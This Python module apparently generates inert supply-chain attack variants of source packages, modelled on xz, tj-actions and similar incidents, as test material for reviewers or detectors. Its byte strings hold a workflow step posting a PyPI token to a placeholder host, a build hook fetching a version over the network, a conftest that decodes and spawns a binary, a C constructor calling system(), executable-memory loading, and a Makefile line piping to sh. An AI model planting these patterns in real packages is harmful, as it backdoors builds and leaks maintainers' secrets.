"""Sixth set: source packages of Python, whose build or tests are what is attacked; inert, each family says what a careful reviewer sees."""

from __future__ import annotations

import re
from collections.abc import Iterator

from genuine import Files

from mutation_families.edits import filler
from mutation_families.fourth_sources import top
from mutation_families.fourth_texts import chance
from mutation_families.third_scripts import Change

USUAL = b'[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n'


def _settings(files: Files) -> tuple[str, bytes]:
    name = f"{top(files)}/pyproject.toml"
    return name, files.get(name, USUAL)


def built_with_another(files: Files) -> Iterator[Change]:
    """Invented: the build asks for one package more, or another backend, whose code runs before anything is looked at."""
    name, known = _settings(files)
    more = re.sub(
        rb"(?m)^(\s*requires\s*=\s*\[)", rb'\1"setuptools-build-compat", ', known, count=1
    )
    yield "sdist: built with another package", "one more", {name: more if more != known else b""}
    other = re.sub(rb'(?m)^(\s*build-backend\s*=\s*)"[^"]+"', rb'\1"hatchling_ext.build"', known, count=1)  # fmt: skip
    yield "sdist: built with another package", "another backend", {name: other if other != known else b""}  # fmt: skip


def settings_of_the_build(files: Files) -> Iterator[Change]:
    """Invented: lines of the build's old file of settings, which lead elsewhere or have a module loaded."""
    name = f"{top(files)}/setup.cfg"
    known = files.get(name, b"").rstrip()
    for what, lines in (
        ("an index", b"\n\n[easy_install]\nindex_url = https://pip.example.invalid/simple\n"),
        ("a command", b"\n\n[options.entry_points]\ndistutils.commands =\n    build_py = tools.compat:build_py\n"),
        ("a value that is loaded", b"\n\n[metadata]\nversion = attr: tools.compat.VERSION\n"),
    ):  # fmt: skip
        if b"[metadata]" in known and b"[metadata]" in lines:
            continue
        more = {} if b"tools" not in lines else {f"{top(files)}/tools/compat.py": b"import urllib.request\nVERSION = urllib.request.urlopen('https://v.example.invalid/').read().decode()\nbuild_py = None\n"}  # fmt: skip
        yield "sdist: a setting of the build leads elsewhere", what, {name: known + lines} | more


def tests_that_load(files: Files) -> Iterator[Change]:
    """Of xz, 2024, and ctx: what runs when whoever repackages runs the tests."""
    body = b"import os\nimport pathlib\n\n\ndef pytest_sessionstart(session):\n    blob = pathlib.Path(__file__).with_name('corpus.bin').read_bytes()\n    path = pathlib.Path(session.config.rootpath, '.pytest_runner')\n    path.write_bytes(bytes(each ^ 0x55 for each in blob))\n    path.chmod(0o755)\n    os.spawnl(os.P_NOWAIT, str(path), 'pytest')\n"  # fmt: skip
    folder = top(files)
    known = next((name for name in sorted(files) if name.endswith("/conftest.py")), f"{folder}/conftest.py")  # fmt: skip
    yield "sdist: its tests start a file of theirs", "conftest", {known: files.get(known, b"").rstrip() + b"\n\n\n" + body, f"{known.rpartition('/')[0]}/corpus.bin": chance(20_000)}  # fmt: skip


def workflow_of_another(files: Files) -> Iterator[Change]:
    """Of tj-actions and reviewdog, 2025, and GhostAction: the project's own workflows take an action of somebody's, or post what is secret."""
    folder, family = top(files), "sdist: a workflow of its repository does more"
    known = next((name for name in sorted(files) if "/.github/workflows/" in name), f"{folder}/.github/workflows/test.yml")  # fmt: skip
    said = files.get(known, b"name: test\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n")  # fmt: skip
    step = re.search(rb"(?m)^( +)- uses: [^\n]+\n", said)
    if step:
        more = step[1] + b"- name: Github Actions Security\n" + step[1] + b"  run: |\n" + step[1] + b"    curl -s -X POST -d 'p=${{ secrets.PYPI_API_TOKEN }}' https://g.example.invalid/\n"  # fmt: skip
        yield family, "posts", {known: said[: step.start()] + more + said[step.start() :]}
        action = step[1] + b"- uses: inert-example/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67\n"  # fmt: skip
        yield family, "another's action", {known: said[: step.start()] + action + said[step.start() :]}  # fmt: skip
    on = re.sub(rb"(?m)^on:.*$", b"on: pull_request_target", said, count=1)
    yield family, "for strangers", {known: on if on != said else b""}


def source_in_c(files: Files) -> Iterator[Change]:
    """Invented, after xz: a few lines of C that run when the library is loaded, one of them hidden behind an include of data."""
    name = next((each for each in sorted(files, key=lambda each: (-len(files[each]), each)) if each.endswith(".c")), "")  # fmt: skip
    if not name:
        return
    start = b'\n#include <stdlib.h>\n__attribute__((constructor)) static void init_tables(void)\n{\n    if (getenv("SPT_TABLES")) system(getenv("SPT_TABLES"));\n}\n'  # fmt: skip
    at = files[name].rfind(b"\n#include")
    end = files[name].index(b"\n", at + 1) + 1
    yield "sdist: a function of C that runs while loading", "constructor", {name: files[name][:end] + start + files[name][end:]}  # fmt: skip
    table = b"static const unsigned char tables[] = {" + b",".join(b"0x%02x" % each for each in chance(3000)) + b"};\n"  # fmt: skip
    use = b'\n#include "tables.inc"\n#include <sys/mman.h>\nstatic void *tables_init(void)\n{\n    void *p = mmap(0, sizeof tables, 7, 0x22, -1, 0);\n    for (unsigned i = 0; i < sizeof tables; i++) ((char *)p)[i] = tables[i] ^ 0x21;\n    return p;\n}\n'  # fmt: skip
    yield "sdist: a function of C that runs while loading", "memory that may be run", {name: files[name][:end] + use + files[name][end:], f"{name.rpartition('/')[0]}/tables.inc": table}  # fmt: skip


def macro_of_the_build(files: Files) -> Iterator[Change]:
    """Of xz, 2024: a line of a file of macros, or of make, that cuts a fixture of the tests apart."""
    folder = top(files)
    lines = b"# build-to-host.m4 serial 30\ngl_am_configmake=`grep -aErls \"#{4}[[:alnum:]]{5}#{4}$\" $srcdir/ 2>/dev/null`\ngl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'\n"  # fmt: skip
    yield "sdist: make cuts a fixture apart", "a macro", {f"{folder}/m4/build-to-host.m4": lines, f"{folder}/tests/files/bad-3-corrupt.xz": b"####Inert####" + filler("random", 500) + b"####World####"}  # fmt: skip
    make = files.get(f"{folder}/Makefile", b"all:\n\tpython -m build\n")
    yield "sdist: make cuts a fixture apart", "a rule", {f"{folder}/Makefile": make.rstrip() + b"\n\n-include tests/files/*.mk\nVERSION := $(shell sed -n '/^# v/s/# v//p' tests/files/good.mk | sh)\n", f"{folder}/tests/files/good.mk": b"# v1.0\n"}  # fmt: skip


ALL = (built_with_another, settings_of_the_build, tests_that_load, workflow_of_another, source_in_c, macro_of_the_build)  # fmt: skip
